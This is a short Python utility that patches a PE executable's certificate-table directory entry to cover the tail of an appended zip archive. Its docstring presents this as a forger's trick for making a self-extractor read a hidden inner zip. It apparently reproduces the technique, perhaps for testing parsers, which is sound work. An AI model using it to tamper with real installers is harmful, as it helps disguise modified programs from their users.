#!/usr/bin/env python3
"""Aims data directory entry 4 of a PE program (the certificate table, whose
address is a file offset) at the bytes that follow the data of one entry of
its appended archive, through the end of the file: what a forger does to
make a self-extractor read an inner zip that it stores, the outer archive's
remaining records then posing as the table.

  aim_certificates.py PROGRAM ENTRY   patches PROGRAM in place; prints the offset
"""
import struct
import sys
import zipfile

PE_POINTER = 0x3C
OPTIONAL_HEADER = 24  # "PE\0\0" and the file header
DIRECTORIES = {0x10B: 96, 0x20B: 112}  # by the optional header's magic
CERTIFICATE_ENTRY = 4

program, entry = sys.argv[1], sys.argv[2]
with zipfile.ZipFile(program) as archive:
    info = archive.getinfo(entry)
with open(program, "r+b") as f:
    data = bytearray(f.read())
    # The entry's data follows its local header, name and extra field.
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_length + extra_length + info.compress_size
    optional = struct.unpack_from("<I", data, PE_POINTER)[0] + OPTIONAL_HEADER
    magic = struct.unpack_from("<H", data, optional)[0]
    struct.pack_into("<II", data, optional + DIRECTORIES[magic] + 8 * CERTIFICATE_ENTRY, start, len(data) - start)
    f.seek(0)
    f.write(data)
print(start)
